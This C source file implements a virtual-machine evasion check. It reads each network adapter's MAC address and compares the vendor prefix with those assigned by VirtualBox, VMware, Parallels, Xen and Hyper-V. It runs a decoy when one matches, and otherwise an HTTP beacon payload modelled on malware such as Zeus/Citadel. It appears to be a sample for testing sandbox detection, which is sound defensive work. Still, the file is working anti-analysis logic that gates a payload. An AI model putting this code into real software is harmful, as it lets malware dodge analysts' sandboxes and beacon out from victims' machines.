/* evasion_mac_oui — the network card's vendor prefix: GetAdaptersInfo, then the first three
 * bytes of each MAC address against the OUIs hypervisors assign — 08:00:27 (VirtualBox),
 * 00:05:69, 00:0C:29, 00:1C:14, 00:50:56 (VMware), 00:1C:42 (Parallels), 00:16:3E (Xen),
 * 00:15:5D (Hyper-V) — pafish vbox_mac / vmware_mac, al-khaser, Zeus/Citadel variants.
 * Payload (beacon over WinINet) only when no adapter has such a prefix. */
#define EVASION_BEACON_HTTP
#include "evasion.h"
#include <iphlpapi.h>

static const BYTE kOuis[][3] = {
    {0x08, 0x00, 0x27}, {0x00, 0x05, 0x69}, {0x00, 0x0C, 0x29}, {0x00, 0x1C, 0x14},
    {0x00, 0x50, 0x56}, {0x00, 0x1C, 0x42}, {0x00, 0x16, 0x3E}, {0x00, 0x15, 0x5D},
};

static BOOL virtual_mac(void) {
  ULONG size = 0;
  if (GetAdaptersInfo(NULL, &size) != ERROR_BUFFER_OVERFLOW || size == 0) return FALSE;
  IP_ADAPTER_INFO *adapters = HeapAlloc(GetProcessHeap(), 0, size);
  if (!adapters) return FALSE;
  BOOL found = FALSE;
  if (GetAdaptersInfo(adapters, &size) == NO_ERROR) {
    for (IP_ADAPTER_INFO *a = adapters; a && !found; a = a->Next) {
      if (a->AddressLength < 3) continue;
      for (unsigned i = 0; i < sizeof kOuis / sizeof kOuis[0]; ++i) {
        if (a->Address[0] == kOuis[i][0] && a->Address[1] == kOuis[i][1] &&
            a->Address[2] == kOuis[i][2]) {
          found = TRUE;
        }
      }
    }
  }
  HeapFree(GetProcessHeap(), 0, adapters);
  return found;
}

int main(void) {
  if (virtual_mac()) {
    evasion_decoy("evasion_mac_oui");
  } else {
    evasion_payload("evasion_mac_oui");
  }
  return 0;
}
